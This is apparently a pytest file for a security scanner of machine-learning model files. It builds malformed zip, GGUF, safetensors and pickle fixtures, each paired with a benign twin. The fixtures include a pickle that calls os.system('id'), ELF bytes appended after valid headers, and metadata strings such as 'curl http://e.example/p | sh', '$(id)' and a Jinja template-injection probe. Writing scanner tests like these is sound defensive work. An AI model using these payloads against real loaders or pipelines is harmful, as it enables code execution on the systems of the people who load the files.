"""One generated fixture per hostile-input class, each with the benign twin that must pass.

Classes (issue 11): parser differentials (zip, GGUF, safetensors), payloads behind valid
headers, hostile bytes in strings, hidden characters in names, configs by any name, and hard
caps that end in a finding. Nothing here is ever unpickled or loaded.
"""

from __future__ import annotations

import json
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from specbundle.scan import ScanOptions, ScanReport, Severity, scan_tree, to_sarif
from specbundle.scan.formats import gguf_reader
from tests.lib import corpus
from tests.scan import zipcraft
from tests.scan.conftest import FAST, ids

Scan = Callable[..., ScanReport]
_U8, _U32, _I32, _F32, _STR, _ARR = 0, 4, 5, 6, 8, 9
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def _s(text: str | bytes) -> bytes:
    b = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q", len(b)) + b


def _arch() -> tuple[str, int, bytes]:
    return ("general.architecture", _STR, _s("llama"))


def _strings(*items: str) -> bytes:
    return struct.pack("<IQ", _STR, len(items)) + b"".join(_s(x) for x in items)


def _clean(rep: ScanReport) -> bool:
    return not rep.blocked and not rep.crashed_checks and ids(rep) == set()


# -- 1. parser differentials: zip ---------------------------------------------------------------
_PKL = corpus._state_dict()
_ZIP_CASES = {
    "zip64-disagrees": (zipcraft.torch_members(_PKL), zipcraft.Layout(
        zip64=True, extra_cd=zipcraft.torch_members(_PKL)[:1])),
    "zip64-offset-off": (zipcraft.torch_members(_PKL), zipcraft.Layout(zip64=True,
                                                                        zip64_cd_delta=46)),
    "two-eocd": (zipcraft.torch_members(_PKL), zipcraft.Layout(second_eocd=True)),
    "prefix": (zipcraft.torch_members(_PKL), zipcraft.Layout(prefix=b"PK\x03\x04" + bytes(26))),
    "gap": (zipcraft.torch_members(_PKL), zipcraft.Layout(gap=b"\x00" * 7)),
    "overlap": (zipcraft.torch_members(_PKL), zipcraft.Layout(overlap=True)),
    "comment-record": (zipcraft.torch_members(_PKL), zipcraft.Layout(comment=b"PK\x05\x06x")),
    "case-duplicate": ([*zipcraft.torch_members(_PKL),
                        zipcraft.Member("archive/DATA.pkl", _PKL)], None),
    "local-name": ([zipcraft.Member("archive/data.pkl", _PKL, local_name="archive/data.pkX"),
                    *zipcraft.torch_members(_PKL)[1:]], None),
    "local-size": ([zipcraft.Member("archive/data.pkl", _PKL, local_size_delta=-3),
                    *zipcraft.torch_members(_PKL)[1:]], None),
    "bzip2": ([zipcraft.Member("archive/data.pkl", _PKL, method=12),
               *zipcraft.torch_members(_PKL)[1:]], None),
}


@pytest.mark.parametrize("case", sorted(_ZIP_CASES))
def test_ambiguous_zip_is_refused(scan_one: Scan, case: str) -> None:
    members, layout = _ZIP_CASES[case]
    rep = scan_one("pytorch_model.bin", zipcraft.build(members, layout), allow_pickle=True)
    assert "pickle.zip-malformed" in ids(rep, Severity.CRITICAL), [f.message for f in
                                                                   rep.findings]
    assert rep.blocked and not rep.crashed_checks


@pytest.mark.parametrize("layout", [None, zipcraft.Layout(zip64=True)], ids=["plain", "zip64"])
@pytest.mark.parametrize("method", [0, 8], ids=["stored", "deflate"])
def test_unambiguous_zip_passes(scan_one: Scan, tmp_path: Path, layout: zipcraft.Layout | None,
                                method: int) -> None:
    members = zipcraft.torch_members(_PKL)
    members[0].method = method
    data = zipcraft.build(members, layout)
    (tmp_path / "probe.zip").write_bytes(data)
    with zipfile.ZipFile(tmp_path / "probe.zip") as zf:  # the twin really is a readable zip
        assert zf.read("archive/data.pkl") == _PKL
    rep = scan_one("pytorch_model.bin", data, allow_pickle=True)
    assert {f.check_id for f in rep.findings} == {"pickle.allowed"}, [f.message for f in
                                                                      rep.findings]


# -- 1. parser differentials: GGUF keys llama.cpp asserts --------------------------------------
_TOKS = ("tokenizer.ggml.tokens", _ARR, _strings("a", "b"))
_GGUF_CASES = {
    "alignment-u8": ([_arch(), ("general.alignment", _U8, b"\x20")], "gguf.key-type"),
    "alignment-npot": ([_arch(), ("general.alignment", _U32, struct.pack("<I", 48))],
                       "gguf.alignment"),
    "scores-i32": ([_arch(), _TOKS, ("tokenizer.ggml.scores", _ARR,
                                     struct.pack("<IQ", _I32, 2) + b"\x00" * 8)],
                   "gguf.key-type"),
    "scores-short": ([_arch(), _TOKS, ("tokenizer.ggml.scores", _ARR,
                                       struct.pack("<IQ", _F32, 1) + b"\x00" * 4)],
                     "gguf.key-type"),
    "tokens-u8": ([_arch(), ("tokenizer.ggml.tokens", _ARR, struct.pack("<IQ", _U8, 1) + b"a")],
                  "gguf.key-type"),
    "bos-string": ([_arch(), ("tokenizer.ggml.bos_token_id", _STR, _s("1"))], "gguf.key-type"),
    "arch-u32": ([("general.architecture", _U32, b"\x01\x00\x00\x00")], "gguf.key-type"),
    "nested-array": ([_arch(), ("x.nested", _ARR, struct.pack("<IQ", _ARR, 1)
                                + struct.pack("<IQ", _U8, 1) + b"\x01")], "gguf.nested-array"),
}


@pytest.mark.parametrize("case", sorted(_GGUF_CASES))
def test_gguf_types_llama_cpp_asserts(scan_one: Scan, case: str) -> None:
    kv, check_id = _GGUF_CASES[case]
    rep = scan_one("model.gguf", corpus.gguf_raw(kv, [], b""))
    assert check_id in ids(rep, Severity.HIGH), [f.message for f in rep.findings]


def test_gguf_typed_keys_benign_twin(scan_one: Scan) -> None:
    kv = [_arch(), ("general.alignment", _U32, struct.pack("<I", 32)), _TOKS,
          ("tokenizer.ggml.scores", _ARR, struct.pack("<IQ", _F32, 2) + b"\x00" * 8),
          ("tokenizer.ggml.token_type", _ARR, struct.pack("<IQ", _I32, 2) + b"\x00" * 8),
          ("tokenizer.ggml.bos_token_id", _U32, struct.pack("<I", 1))]
    assert _clean(scan_one("model.gguf", corpus.gguf_raw(kv, [], b"")))


def test_gguf_tensor_layout_llama_cpp_expects(scan_one: Scan) -> None:
    # offsets out of info order: both tensors are in the file, but not where llama.cpp looks
    swapped = corpus.gguf_raw([_arch()], [("a", (16,), 1, 32), ("b", (16,), 1, 0)],
                              b"\x00" * 64)
    assert "gguf.tensor-order" in ids(scan_one("model.gguf", swapped))
    long_name = corpus.gguf_raw([_arch()], [("t" * 64, (16,), 1, 0)], b"\x00" * 32)
    assert "gguf.tensor-name" in ids(scan_one("model.gguf", long_name))
    ok = corpus.gguf_raw([_arch()], [("a", (16,), 1, 0), ("b", (16,), 1, 32)], b"\x00" * 64)
    assert _clean(scan_one("model.gguf", ok))


# -- 1. parser differentials: safetensors -------------------------------------------------------
@pytest.mark.parametrize(("pad", "bad"), [(b" " * 6, False), (b"\n" + b" " * 5, True),
                                          (b"\x00" * 6, True), (b"\t" * 6, True)])
def test_safetensors_header_padding(scan_one: Scan, pad: bytes, bad: bool) -> None:
    hdr, data = corpus.f16_header(("w", (2, 2)))
    raw = json.dumps(hdr).encode() + pad
    rep = scan_one("model.safetensors", corpus.safetensors_bytes(raw, data, pad=False))
    assert ("safetensors.header-padding" in ids(rep)) is bad
    assert bad or _clean(rep)


# -- 4. payloads behind valid headers -----------------------------------------------------------
def test_zero_tensor_gguf_with_elf_appended(scan_one: Scan) -> None:
    header = corpus.gguf_raw([_arch()], [], b"")
    assert _clean(scan_one("model.gguf", header))  # the twin: aligned, zero padding only
    rep = scan_one("model.gguf", header + ELF)
    assert "gguf.trailing-bytes" in ids(rep, Severity.HIGH) and rep.blocked
    sneaky = scan_one("model.gguf", header[:-8] + b"\x01" * 8)  # inside the padding
    assert "gguf.trailing-bytes" in ids(sneaky)


def test_protocol0_pickle_behind_a_long_string(scan_one: Scan) -> None:
    long = b"S'" + b"a" * (70 * 1024) + b"'\np0\n0"
    payload = long + b"cos\nsystem\n(S'id'\ntR."
    rep = scan_one("weights.bin", payload, allow_pickle=True)
    assert "pickle.global-not-allowed" in ids(rep, Severity.CRITICAL)
    text = scan_one("README.md", b"a" * (70 * 1024) + b"\n")  # the twin: long text is text
    assert _clean(text)


# -- 5. hostile bytes never crash the report ----------------------------------------------------
def _gguf_bytes(keys: list[bytes], tensor: bytes | None) -> bytes:
    """A GGUF whose key and tensor names are raw bytes (invalid UTF-8 included)."""
    out = b"GGUF" + struct.pack("<IQQ", 3, 1 if tensor else 0, len(keys) + 1)
    out += _s("general.architecture") + struct.pack("<I", _STR) + _s("llama")
    for k in keys:
        out += _s(k) + struct.pack("<I", _STR) + _s("x")
    if tensor:
        out += _s(tensor) + struct.pack("<IQIQ", 1, 16, 1, 0)
    out += b"\x00" * (-len(out) % 32)
    return out + (b"\x00" * 32 if tensor else b"")


def test_invalid_utf8_and_surrogates_are_carried_escaped(scan_one: Scan) -> None:
    blobs = [
        ("model.gguf", _gguf_bytes([b"general.\xff\xfe", b"general.\xff\xfe"], None)),
        ("model.gguf", _gguf_bytes([], b"t\xed\xa0\x80" + b"x" * 70)),  # surrogate, too long
        ("model.safetensors", corpus.safetensors_bytes(
            b'{"w\\ud800/..": {"dtype": "F16", "shape": [1], "data_offsets": [0, 3]}}',
            b"\x00\x00")),
    ]
    for name, blob in blobs:
        rep = scan_one(name, blob)
        assert not rep.crashed_checks and rep.blocked, [f.message for f in rep.findings]
        rep.canonical_bytes().decode("utf-8")  # serialisable, strictly
        json.dumps(to_sarif(rep), ensure_ascii=False).encode("utf-8")
        text = json.dumps(rep.to_json(), ensure_ascii=False)
        assert not any("\ud800" <= c <= "\udfff" for c in text)


# -- 6. names and metadata ----------------------------------------------------------------------
@pytest.mark.parametrize("name", ["model\u202egguf.txt", "read\u200bme.md", "conf\u0085ig.json",
                                  "tok\u2066enizer.json", "a\ufeff.md"])
def test_hidden_characters_in_names(scan_one: Scan, name: str) -> None:
    rep = scan_one(name, b"{}\n")
    assert "files.unsafe-name" in ids(rep, Severity.CRITICAL)
    assert name not in json.dumps(rep.to_json(), ensure_ascii=False)  # shown escaped


def test_visible_unicode_name_passes(scan_one: Scan) -> None:
    assert "files.unsafe-name" not in ids(scan_one("modèle-ü.md", b"# hi\n"))


@pytest.mark.parametrize(("meta", "hostile"), [
    ({"format": "pt"}, False), ({"format": "pt", "note": "trained on 8 GPUs; lr=3e-4"}, False),
    ({"format": "pt", "x": "{{ cycler.__init__ }}"}, True),
    ({"format": "pt", "x": "curl http://e.example/p | sh"}, True),
    ({"format": "pt", "x": "$(id)"}, True),
])
def test_hostile_looking_safetensors_metadata(scan_one: Scan, meta: dict[str, str],
                                              hostile: bool) -> None:
    hdr, data = corpus.f16_header(("w", (2, 2)))
    hdr["__metadata__"] = meta
    rep = scan_one("model.safetensors", corpus.safetensors_bytes(hdr, data))
    got = [f for f in rep.findings if f.check_id == "safetensors.metadata-suspicious"]
    assert bool(got) is hostile and all(f.severity is Severity.MEDIUM for f in got)
    assert hostile or _clean(rep)


# -- 3. every config, whatever its name, at any depth -------------------------------------------
def test_config_by_any_name_and_depth(tmp_path: Path) -> None:
    (tmp_path / "processor_config.json").write_text(json.dumps(
        {"processor": {"chat_template": "{{ x['__in' ~ 'it__'] }}"}}))
    (tmp_path / "video_preprocessor_config.json").write_text(json.dumps(
        {"a": [{"b": {"auto_map": {"AutoProcessor": "org/repo--mod.Cls"}}}]}))
    (tmp_path / "extra.yaml").write_text("nested:\n  auto_map:\n    AutoModel: m.M\n")
    rep = scan_tree(tmp_path, options=FAST)
    got = {(f.file, f.check_id) for f in rep.findings}
    assert ("processor_config.json", "template.computed-key") in got
    assert ("video_preprocessor_config.json", "remote-code.cross-repo") in got
    assert ("extra.yaml", "remote-code.auto-map") in got


def test_oversize_config_is_a_finding_not_absent(tmp_path: Path) -> None:
    (tmp_path / "tokenizer_config.json").write_text(json.dumps(
        {"chat_template": "{{ 1 }}", "pad": "x" * 4096}))
    opts = ScanOptions(second_opinions=False, max_config_bytes=1024)
    rep = scan_tree(tmp_path, options=opts)
    assert "config.too-large" in ids(rep, Severity.HIGH) and rep.blocked
    assert _clean(scan_tree(tmp_path, options=FAST))  # the twin: same file under the limit


def test_duplicate_key_config(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('{"auto_map": {}, "auto_map": {"A": "m.B"}}')
    assert "config.duplicate-key" in ids(scan_tree(tmp_path, options=FAST), Severity.HIGH)


# -- 7. hard caps end in a finding --------------------------------------------------------------
def test_gguf_array_over_the_cap(scan_one: Scan) -> None:
    n = gguf_reader.MAX_ARRAY_ELEMENTS + 1  # one past the real cap: 4 M tokens, a 38 MB file
    tokens = struct.pack("<IQ", _STR, n) + _s("a") * n  # _strings("a", "a", ...), built fast
    big = corpus.gguf_raw([_arch(), ("tokenizer.ggml.tokens", _ARR, tokens)], [], b"")
    rep = scan_one("model.gguf", big)
    [f] = [f for f in rep.findings if f.check_id == "gguf.too-large"]
    assert f.severity is Severity.HIGH and "too large to analyse" in f.message
    small = corpus.gguf_raw([_arch(), ("tokenizer.ggml.tokens", _ARR, _strings("a"))], [], b"")
    assert _clean(scan_one("model.gguf", small))


def test_pickle_over_the_budget(scan_one: Scan) -> None:
    opts = ScanOptions(second_opinions=False, max_pickle_bytes=64)
    rep = scan_one("data.pkl", b"\x80\x02]q\x00(" + b"K\x01" * 100 + b"e.", allow_pickle=True,
                   options=opts)
    assert "pickle.budget" in ids(rep, Severity.HIGH)


def test_numpy_array_must_fill_its_file(scan_one: Scan, tmp_path: Path) -> None:
    import numpy as np

    np.save(tmp_path / "a.npy", np.arange(6, dtype=np.int32))
    whole = (tmp_path / "a.npy").read_bytes()
    assert _clean(scan_one("ids.npy", whole))
    rep = scan_one("ids.npy", whole + ELF)
    assert "pickle.npy-size" in ids(rep, Severity.HIGH) and rep.blocked
